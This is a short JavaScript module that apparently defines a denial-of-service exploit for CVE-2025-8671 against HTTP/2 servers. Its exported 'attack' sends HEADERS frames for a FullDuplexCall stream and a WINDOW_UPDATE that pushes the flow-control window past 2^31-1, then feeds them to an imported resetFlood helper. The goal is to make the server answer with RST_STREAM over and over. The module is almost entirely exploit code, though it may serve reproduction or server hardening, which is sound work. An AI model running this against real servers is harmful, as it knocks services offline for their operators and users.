import { header, windowUpdate } from './call.js';
import { resetFlood } from './reset-flood.js';

/** CVE-2025-8671: a window past 2^31-1 (RFC 9113 section 6.9.1), which the server has to answer with RST_STREAM. */
export const attack = resetFlood('made you reset: window overflow', (id) =>
  Buffer.concat([header(id, 'FullDuplexCall'), windowUpdate(id, 0x7fffffff)]),
);
